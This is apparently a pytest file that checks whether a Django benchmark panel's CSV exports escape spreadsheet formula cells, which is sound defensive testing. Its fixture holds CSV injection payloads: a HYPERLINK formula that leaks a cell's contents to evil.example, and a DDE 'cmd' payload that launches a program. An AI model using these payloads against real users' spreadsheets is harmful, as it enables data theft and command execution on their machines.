"""Every CSV the panel produces opens in a spreadsheet as data: a text cell that would start
a formula (`=`, `+`, `-`, `@`, tab, carriage return) begins with `'`; numbers stay numbers.

The CSVs: a job's results (page and API) and a comparison (page and API). Hostile text
reaches them through the recipe's name and model id, a host's name, the image and the
scenario names, set here straight in the database as a hostile import or a compromised
writer would leave them.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from apps.benchmarks.models import Result
from apps.core.csvsafe import csv_text, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = {
    "recipe": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "model_id": "-2+3",
    "host": "+1",
    "image": "\t=cmd|' /C calc'!A0",
    "scenario_1": "@SUM(1)",
    "scenario_2": "\r=1+1",
}


def test_safe_cell_escapes_formula_text_and_leaves_numbers():
    for text in ("=1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-1.5"):
        assert safe_cell(text) == "'" + text
    for value in ("plain", "a=b", "", " =1", 0, -1.5, -3, 2.0, True, None):
        assert safe_cell(value) == value
    lines = csv_text(["a", "=b"], [{"a": -1.5, "=b": "=1"}, {"a": "x"}]).splitlines()
    assert lines == ["a,'=b", "-1.5,'=1", "x,"]


@pytest.fixture
def hostile_jobs(world):
    recipe, host = world["recipe"], world["host"]
    type(recipe).objects.filter(pk=recipe.pk).update(
        name=HOSTILE["recipe"], model_id=HOSTILE["model_id"]
    )
    type(host).objects.filter(pk=host.pk).update(name=HOSTILE["host"])
    jobs = world["done_jobs"]
    for job in jobs:
        job.context = {**job.context, "image": HOSTILE["image"]}
        job.save(update_fields=["context"])
        first, second = job.results.order_by("concurrency")
        first.scenario, second.scenario = HOSTILE["scenario_1"], HOSTILE["scenario_2"]
        # A computed negative number: it must stay a number a spreadsheet can sum.
        first.ttft_p50_s = -0.0015
        Result.objects.bulk_update([first, second], ["scenario", "ttft_p50_s"])
    return jobs


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check(rows: list[dict], where: str) -> None:
    assert rows, f"{where}: no rows"
    cells = [value for row in rows for value in row.values()]
    formulas = [c for c in cells if c and c[0] in "=+-@\t\r" and not _number(c)]
    assert not formulas, f"{where}: cells a spreadsheet would run: {formulas}"
    for row in rows:
        assert row["recipe"] == "'" + HOSTILE["recipe"], where
        assert row["model_id"] == "'" + HOSTILE["model_id"], where
        assert row["host"] == "'" + HOSTILE["host"], where
        assert row["image"] == "'" + HOSTILE["image"], where
    scenarios = {row["scenario"] for row in rows}
    assert scenarios == {"'" + HOSTILE["scenario_1"], "'" + HOSTILE["scenario_2"]}, where
    # Numbers stay numbers: the negative one included (it was computed, not typed).
    low = [row for row in rows if row["max_concurrency"] == "1"]
    assert {row["median_ttft_ms"] for row in low} == {"-1.5"}, where
    assert all(float(row["output_throughput"]) == 22.5 for row in rows), where


def test_every_csv_export_neutralises_formula_cells(client_as, api_as, operator, hostile_jobs):
    a, b = hostile_jobs
    client = client_as(operator)
    page = client.get(reverse("benchmark-csv", args=[a.pk]))
    assert page.status_code == 200 and page["Content-Type"].startswith("text/csv")
    _check(_rows(page.content.decode()), "job results.csv (page)")
    compare = client.get(reverse("benchmark-compare") + f"?jobs={a.pk},{b.pk}&format=csv")
    assert compare.status_code == 200 and compare["Content-Type"].startswith("text/csv")
    _check(_rows(compare.content.decode()), "compare CSV (page)")

    api = api_as(operator)
    one = api.get(f"/jobs/{a.pk}/results.csv")
    assert one.status_code == 200, one.content
    _check(_rows(one.content.decode()), "job results.csv (API)")
    both = api.get("/jobs/compare", ids=f"{a.pk},{b.pk}", format="csv")
    assert both.status_code == 200, both.content
    _check(_rows(both.content.decode()), "compare CSV (API)")
